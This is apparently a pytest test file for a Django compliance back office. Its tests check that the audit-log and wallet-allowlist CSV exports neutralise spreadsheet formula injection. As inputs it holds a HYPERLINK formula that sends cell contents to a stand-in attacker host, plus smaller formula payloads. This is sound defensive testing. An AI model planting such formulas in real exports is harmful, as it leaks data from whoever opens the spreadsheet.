"""Every CSV of the back office is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from apps.audit.services import record
from apps.onboarding.models import Wallet
from apps.onboarding.services.cases import transition_case
from tests.factories import KycCaseFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_audit_csv_neutralises_formulas_in_every_cell(client, officer):
    attacker = UserFactory(username="-2+3@example.org")
    record(actor=attacker, action="case.approve", after={"note": FORMULA}, ip="85.214.132.117")
    record(actor=None, action="@SUM(1)")
    client.force_login(officer)
    today = timezone.now().date().isoformat()
    body = client.get(f"/compliance/audit.csv?start={today}&end={today}").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert "'-2+3@example.org" in [r["actor"] for r in rows]
    assert "'@SUM(1)" in [r["action"] for r in rows]


def test_allowlist_csv_neutralises_formulas(client, officer):
    case = KycCaseFactory()
    for state in ("submitted", "in_review", "approved"):
        transition_case(case=case, to_state=state, actor=None)
    Wallet.objects.create(user=case.user, kind="evm", address="=1+1", verified_at=timezone.now())
    client.force_login(officer)
    rows = list(csv.reader(io.StringIO(client.get("/compliance/allowlist.csv").content.decode())))
    assert rows[1][:2] == ["evm", "'=1+1"]
